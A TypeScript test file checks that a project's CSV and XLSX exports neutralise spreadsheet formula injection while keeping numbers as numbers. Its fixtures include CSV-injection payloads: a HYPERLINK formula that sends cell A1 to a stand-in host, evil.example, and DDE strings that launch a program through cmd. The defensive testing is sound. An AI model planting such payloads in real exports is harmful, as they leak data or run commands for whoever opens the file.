/**
 * Exports opened in a spreadsheet (OWASP "CSV injection"): text cells that Excel, LibreOffice or Google Sheets
 * would run as a formula (starting with = + - @, tab or carriage return) are neutralised with a leading
 * apostrophe in CSV; XLSX writes text as string cells, never formulae; numbers stay numbers in both.
 * Expected cells are written out by hand from RFC 4180 (quote a field holding a quote, delimiter or line break;
 * double the quotes inside).
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../src/cli/common.ts';
import { toCsv, toXlsx, type Table } from '../../src/io/export-table.ts';
import { neutraliseFormula } from '../../src/io/spreadsheet-safe.ts';

/** Payloads from the OWASP CSV-injection page and the PayloadsAllTheThings list, one per trigger character. */
const PAYLOADS = {
  equals: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
  plus: '+1+cmd|\' /C calc\'!A0',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  /** papaparse's own guard (`/^[=+\-@\t\r].*$/`) misses a payload followed by a line break. */
  multiline: '=HYPERLINK("http://evil.example","x")\nPhường Một',
};

const TABLE: Table = {
  name: 'wards',
  columns: ['ward_id', 'ward_name', 'rsrp_dbm', 'lon'],
  rows: [
    [PAYLOADS.equals, PAYLOADS.multiline, -95.25, 106.68],
    [PAYLOADS.plus, PAYLOADS.minus, -120, -0.5],
    [PAYLOADS.at, PAYLOADS.tab, null, 0],
    [PAYLOADS.cr, 'Phường Quán Toan - 11296', -44, 1e-7],
  ],
};

describe('neutraliseFormula', () => {
  it('prefixes text starting with each trigger character with an apostrophe', () => {
    for (const payload of Object.values(PAYLOADS)) expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  it('leaves numbers, booleans, empty cells and other text as they are', () => {
    expect(neutraliseFormula(-95.25)).toBe(-95.25);
    expect(neutraliseFormula(-0)).toBe(-0);
    expect(neutraliseFormula(false)).toBe(false);
    expect(neutraliseFormula(null)).toBe(null);
    expect(neutraliseFormula('')).toBe('');
    expect(neutraliseFormula('Phường = 5')).toBe('Phường = 5');
    expect(neutraliseFormula(' =1+1')).toBe(' =1+1');
  });

  it('decides by value type: a negative number written as text is text', () => {
    // a household id "-12" read from a file is text, and a spreadsheet would read it as the number −12
    expect(neutraliseFormula('-12')).toBe("'-12");
    expect(neutraliseFormula(-12)).toBe(-12);
  });
});

/** The expected CSV records of TABLE (RFC 4180 quoting, worked out by hand). */
const CSV_RECORDS = [
  'ward_id,ward_name,rsrp_dbm,lon',
  `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")","'=HYPERLINK(""http://evil.example"",""x"")\nPhường Một",-95.25,106.68`,
  `'+1+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,-120,-0.5`,
  `'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,,0`,
  `"'\r=1+1",Phường Quán Toan - 11296,-44,1e-7`,
];

describe('toCsv', () => {
  it('neutralises formula text, including one followed by a line break, and keeps numbers as numbers', () => {
    expect(toCsv(TABLE)).toBe(CSV_RECORDS.join('\r\n') + '\r\n');
    expect(toCsv(TABLE, { bom: true })).toBe('\uFEFF' + CSV_RECORDS.join('\r\n') + '\r\n');
  });
});

describe('CLI writeCsv', () => {
  it('neutralises text the same way (LF line ends, no BOM) and keeps numeric columns unchanged', () => {
    const path = join(mkdtempSync(join(tmpdir(), 'phusong-csv-')), 'wards.csv');
    writeCsv(path, TABLE.columns, TABLE.rows.map((row) => row.map((value) => value ?? '')));
    expect(readFileSync(path, 'utf8')).toBe(CSV_RECORDS.join('\n') + '\n');
  });
});

describe('toXlsx', () => {
  it('writes text as string cells with the text unchanged, numbers as numbers, and no formula', async () => {
    const bytes = await toXlsx([TABLE]);
    const zip = await JSZip.loadAsync(bytes);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheetXml).not.toMatch(/<f[\s>]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    TABLE.rows.forEach((row, r) => {
      row.forEach((value, c) => {
        const cell = sheet.getRow(r + 2).getCell(c + 1);
        if (typeof value === 'number') {
          expect(cell.type).toBe(ExcelJS.ValueType.Number);
          expect(cell.value).toBe(value);
        } else if (typeof value === 'string') {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          // XML normalises a bare CR in text to LF; everything else comes back as written
          expect(cell.value).toBe(value.replace(/\r/g, '\n'));
        }
      });
    });
  });
});
